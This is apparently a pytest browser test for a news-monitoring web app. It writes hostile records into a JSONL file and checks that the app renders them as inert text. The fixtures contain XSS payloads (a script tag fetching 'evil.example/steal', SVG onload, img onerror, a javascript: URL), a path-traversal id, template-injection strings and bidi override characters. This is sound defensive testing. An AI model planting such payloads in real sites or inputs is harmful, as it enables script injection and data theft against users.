"""Documents that would like to be more than text: in a real browser they stay text, harmlessly."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

SCRIPT = '<script>document.title="owned"; fetch("https://evil.example/steal")</script>'
SVG = '<svg onload="document.title=\'owned\'"><image href="https://evil.example/pixel.svg"/></svg>'
STYLE = '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css"><img src=x onerror=alert(1)>'
BIDI = "Renault \u202edeined\u202c an alliance with Xiaomi \u2066on Thursday\u2069."
TEMPLATE = "{{ look.house.ledger }} {% include 'base.html' %} ${7*7} <!--# -->"
BODY = "Renault met Xiaomi in Paris on Thursday. Renault signed an agreement with Xiaomi on 3 May 2024."


def write(folder: Path) -> list[str]:
    records = [
        {"id": 'a"><script>alert(1)</script>', "title": SCRIPT, "text": f"{SCRIPT}\n\n{BODY} {SVG}", "outlet": SVG},
        {"id": "b/../../etc?x=1#y", "title": STYLE, "text": f"{BODY}\n\n{STYLE} {TEMPLATE}", "author": STYLE, "outlet": TEMPLATE},
        {
            "id": "c",
            "title": BIDI,
            "text": f"{BIDI} {BODY}",
            "url": "javascript:document.title='owned'",
            "outlet": "The \u202eteltuO",
        },
        {"id": "d", "title": "x" * 5000, "text": f"{BODY} " + "Renault" * 3000, "url": "https://user:pass@evil.example/"},
    ]
    path = folder / "hostile.jsonl"
    path.write_text("\n".join(json.dumps({"published": "2024-05-03", "lang": "en", **one}) for one in records), encoding="utf-8")
    return [one["id"] for one in records]


@pytest.mark.slow
def test_hostile_documents_stay_text(desk: Any, visit: Callable[..., Any], tmp_path: Path) -> None:
    ids = write(tmp_path)
    taken = list(desk.watch.take([str(tmp_path / "hostile.jsonl")]))
    assert [one.document.id for one in taken] == ids
    desk.watch.weigh()
    view = desk.ledger.view()
    victim = visit(locale="en-GB")
    page = victim.page
    page.on("dialog", lambda dialog: victim.faults.append(f"a dialog opened: {dialog.message}") or dialog.dismiss())
    moves = [f"/move/{one.id}" for one in view.moves_of(ids)]
    stories = [f"/story/{one.id}" for one in view.stories_of(ids)]
    victim.open("/search?q=Renault")
    found = [one.get_attribute("href") for one in page.locator(".item a.open").all()]
    assert len(found) == len(ids)
    views = ["/", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/actor/renault", "/pair/renault/xiaomi", "/stories", "/network"]
    for path in (*views, *moves, *stories, *found):
        victim.open(path)
        assert page.title() != "owned", path
        assert page.locator("body").is_visible(), path
        assert page.locator("main script, main style, main link, main img, main image, main iframe, main object").count() == 0, path
        assert page.locator("a[href^='javascript:']").count() == 0, path
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), f"{path} is wider than its window"
        assert not set("\u202e\u202c\u2066\u2069") & set(page.locator("body").inner_text()), path
    victim.open(found[0])
    text = page.locator("article.text").inner_text()
    assert any(words in text for words in ("<script>document.title", "<style>body", "deined", "RenaultRenault"))
